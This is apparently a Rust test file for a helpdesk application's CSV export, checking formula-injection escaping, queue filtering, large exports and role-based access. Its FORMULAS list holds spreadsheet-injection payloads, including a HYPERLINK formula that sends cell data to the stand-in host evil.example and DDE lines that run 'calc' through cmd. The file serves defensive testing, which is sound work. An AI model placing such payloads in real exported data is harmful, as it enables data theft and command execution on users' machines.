//! Row 13: an exported table holds texts: no spreadsheet takes a cell for a formula, and nothing is lost on the way.

use jiff::SignedDuration;

use super::office::Office;
use super::people::{EXPERT, does, filled, sent, sent_form, signed_in};
use crate::harness::http::{Browser, Response};
use crate::journey::{EMAIL, NAME, TITLE};
use crate::store_contract::samples::Life;

const LEAD: &str = "to-truong@suite.example";
const ADMIN: &str = "quan-tri@suite.example";

const FORMULAS: [&str; 12] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＠SUM(A1)",
    "\"=1+1\"",
    "'=1+1",
    "“=1+1”",
    "\"\"=1+1,\"x\"",
    "%0A=1+1",
];

/// A table as a spreadsheet reads it, its titles first.
#[track_caller]
fn read(answer: &Response) -> Vec<Vec<String>> {
    assert_eq!(answer.status, 200, "{answer:#?}");
    assert_eq!(answer.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
    let text = answer.body.strip_prefix('\u{feff}').expect("a byte order mark, for Excel");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.expect("a row").iter().map(str::to_owned).collect()).collect()
}

#[test]
fn no_cell_begins_like_a_formula_and_all_are_read_back() {
    let office = Office::open();
    office.with_wide_limits();
    let mut requester = Browser::new(&office);
    let form = filled(&mut requester);
    for typed in FORMULAS {
        office.pass(SignedDuration::from_secs(1));
        sent_form(&mut requester, &form.clone().fill("title", typed).fill("name", typed));
    }
    let rows = read(&signed_in(&office, LEAD).get("/desk/q/it/export.csv"));
    assert_eq!(rows.len(), 1 + FORMULAS.len());
    for (row, typed) in rows[1..].iter().zip(FORMULAS) {
        for cell in [&row[1], &row[2]] {
            assert_eq!(cell.strip_prefix('\''), Some(typed), "a text, with all of its signs");
        }
    }
    let starts = rows.iter().flatten().filter_map(|cell| cell.chars().next());
    let signs: Vec<_> = starts.filter(|sign| "=+-@\t\r＝＋－＠\"".contains(*sign)).collect();
    assert!(signs.is_empty(), "{signs:?}");
}

#[test]
fn a_table_has_what_the_queue_shows_narrowed_down_alike() {
    let office = Office::open();
    office.with_wide_limits();
    let mut requester = Browser::new(&office);
    let form = filled(&mut requester);
    let title = "Mất mạng; \"phòng B204\", cả máy in\u{200c} 👩🏽‍💻 چاپگر";
    let code = sent_form(&mut requester, &form.clone().fill("title", title).fill("priority", "low"));
    let other = sent_form(&mut requester, &form.fill("priority", "high"));
    does(&mut signed_in(&office, EXPERT), &code, "/accept", None).leads_to();
    let mut lead = signed_in(&office, LEAD);
    let link = lead.get("/desk/q/it?priority=low").page(200).links("a[href*='export.csv']").remove(0).0;
    let answer = lead.get(&link);
    let rows = read(&answer);
    assert_eq!(rows[0][..4], ["Mã phiếu", "Tiêu đề", "Người yêu cầu", "Email"]);
    let expected = [
        code.as_str(),
        title,
        NAME,
        EMAIL,
        "Báo sự cố",
        "Đang xử lý",
        "Thấp",
        "",
        "",
        "Lê Cẩm Vân",
        "2026-11-23 08:30",
        "2026-11-24 08:30",
        "",
    ];
    assert_eq!(rows[1], expected);
    assert_eq!(rows.len(), 2, "the urgent one is left out");
    let name = answer.header("content-disposition").expect("a name");
    assert_eq!(name, "attachment; filename=\"it-2026-11-23.csv\"");
    assert_eq!(read(&lead.get("/desk/q/it/export.csv?state=new"))[1][0], other);
    assert_eq!(read(&lead.get("/desk/q/it/export.csv?lang=en"))[0][0], "Code");
    assert_eq!(lead.get("/desk/q/it/export.csv?priority=secret").status, 404);
}

#[test]
fn a_long_queue_is_exported_whole() {
    let office = Office::open();
    let store = std::sync::Arc::clone(&office.store);
    let lives: Vec<_> = (1..=1_203).map(|number| Life::sent(number, "07:00:00")).collect();
    for life in &lives {
        office.wait(life.create_in(&store));
    }
    let rows = read(&signed_in(&office, ADMIN).get("/desk/q/it/export.csv"));
    let codes: std::collections::BTreeSet<_> = rows[1..].iter().map(|row| row[0].clone()).collect();
    assert_eq!((rows.len(), codes.len()), (1_204, 1_203));
}

#[test]
fn experts_have_no_way_to_export() {
    let office = Office::open();
    sent(&mut Browser::new(&office));
    let mut expert = signed_in(&office, EXPERT);
    assert!(!expert.get("/desk/q/it").page(200).has("a[href*='export.csv']"));
    let answer = expert.get("/desk/q/it/export.csv");
    assert!(answer.status == 404 && !answer.body.contains(&TITLE.replace('&', "&amp;")));
}
